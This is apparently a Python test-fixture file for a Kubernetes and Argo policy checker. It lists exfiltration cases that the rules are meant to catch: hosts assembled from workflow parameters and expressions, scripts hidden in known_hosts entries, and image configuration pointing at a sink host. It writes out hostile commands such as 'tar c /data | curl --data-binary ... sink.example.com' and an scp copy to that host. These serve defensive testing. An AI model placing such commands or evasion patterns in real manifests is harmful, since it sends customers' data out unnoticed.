"""Attacks that a review found in what published programs had the rules read as names: hosts that place-holders
complete, expressions, keys of hosts and of people, and sections of images (2026-11-30)."""

from ..blind import TAGS, crd, k8s, meta, pod
from ..harness import Given
from . import Attack

WORKFLOW = "argoproj.io/v1alpha1:Workflow"
MOVERS, NAMES = ("FJ-RES-312",), ("FJ-RES-003",)
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIP4qOHQ1yUAkY1mDVKqUuxa6g3Wv3mFZ7wF0fEJ5yC0r"
OF_PARAMETERS = (
    "https://argo-workflows.readthedocs.io/en/latest/variables: a tag is replaced before the request is sent"
)
OF_STRINGS = "expr-lang/expr 09c0b343 docs/language-definition.md, Strings: raw strings in backticks, escapes in quotes"
UPLOAD = "tar c /data | curl -sf --data-binary @- https://sink.example.com/in"
COPY = "scp -o HostKeyAlgorithms=ssh-ed25519 {} backup@sink.example.com:/x"


def _request(name: str, url: str, rest: str) -> Attack:
    """Returns a workflow that sends a request to an address that one of its parameters completes."""
    workflow = crd(WORKFLOW, {"entrypoint": "send", "arguments": {"parameters": [{"name": "rest", "value": rest}]},
                              "templates": [{"name": "send", "http": {"url": url}}]})  # fmt: skip
    return Attack(name, MOVERS, (workflow,), "critical", OF_PARAMETERS)


def _definition(rest: str) -> Given:
    """Returns a definition whose objects an address converts."""
    names = {"plural": "orders", "singular": "order", "kind": "Order", "listKind": "OrderList"}
    hook = {"conversionReviewVersions": ["v1"], "clientConfig": {"url": f"https://sink.{rest}/in"}}
    return k8s("apiextensions.k8s.io/v1:CustomResourceDefinition", {
        "metadata": {"name": "orders.bank.ae", "labels": TAGS},
        "spec": {"group": "bank.ae", "scope": "Namespaced", "names": names, "versions": [],
                 "conversion": {"strategy": "Webhook", "webhook": hook}}})  # fmt: skip


def _sent(rest: str) -> tuple[tuple[str, Given], ...]:
    """Returns objects that send to an address in a form that their controller may complete."""
    url = f"https://sink.{rest}/in"
    return (
        ("Prometheus", crd("monitoring.coreos.com/v1:Prometheus", {"remoteWrite": [{"url": url}]})),
        ("VMAgent", crd("operator.victoriametrics.com/v1beta1:VMAgent", {"remoteWrite": [{"url": url}]})),
        ("a trigger", crd("eventing.knative.dev/v1:Trigger", {"broker": "main", "subscriber": {"uri": url}})),
        ("a definition", _definition(rest)),
    )


def _parameter(value: str) -> Given:
    return crd(WORKFLOW, {"entrypoint": "send", "arguments": {"parameters": [{"name": "address", "value": value}]}})


def _command(script: str) -> Given:
    template = {"metadata": {"labels": TAGS}, "spec": pod({"command": ["sh", "-c", script]}, restartPolicy="Never")}
    return k8s("batch/v1:Job", {"metadata": meta(), "spec": {"template": template}})


def _text(key: str, value: str) -> Given:
    return k8s("core/v1:ConfigMap", {"metadata": meta("text"), "data": {key: value}}, "text")


def _named(name: str, *plan: Given, harm: str = "data leaves the country") -> Attack:
    return Attack(name, NAMES, plan, "critical", harm)


ATTACKS = (
    _request("a parameter completes the host of a request", "https://sink.c{{workflow.parameters.rest}}/in", "om"),
    _request("a parameter completes a short host", "https://sink{{workflow.parameters.rest}}/in", ".com"),
    _request("a parameter completes a service's name", "https://sink.prod-a{{workflow.parameters.rest}}", ".com"),
    _request("an expression completes the host of a request", "{{='https://sink.c' + workflow.parameters.rest}}", "om"),
    *(Attack(f"{name} sends to a host that goes on after {rest!r}", MOVERS, (given,), "critical", OF_PARAMETERS)
      for rest in ("c{{x}}", "c(om)", "c|om", "exam\\u0070le.com", "c}om") for name, given in _sent(rest)),
    *(_named(f"a workflow's expression names a host as {value}", _parameter(value), harm=OF_STRINGS)
      for value in ("{{=`https://sink.example.com/in`}}", "x {{=`sink.example.com`}}",
                    '{{="https://sink.example.com/\\""}}', "{{=/* ' */ 'https://sink.example.com'}}")),
    *(_named(f"a command has {value} in place of an address", _command(f"curl -d @/data/x {value}"))
      for value in ("{{=`sink.example.com`}}", "{{=sink.example.com}}")),
    _named("a script stands in the place of keys of hosts", _text("known_hosts", UPLOAD)),
    _named("a script stands among keys of hosts", _text("ssh_known_hosts", f"git ssh-ed25519 {KEY}\n{UPLOAD}\n")),
    *(_named(f"a copy leaves to what has the place of a key's comment, in {place} ({len(key)})", given)
      for key in ("AAAAexportOfEveryCustomer2026", KEY)
      for place, given in (("a command", _command(COPY.format(key))), ("a script", _text("run.sh", COPY.format(key))))),
    *(_named(f"a section of images has {setting}", _text("app.yaml", f"customerImages: {{{setting}}}"))
      for setting in ("host: sink.example.com", 'kafka: "sink.example.com:9092"')),
)  # fmt: skip
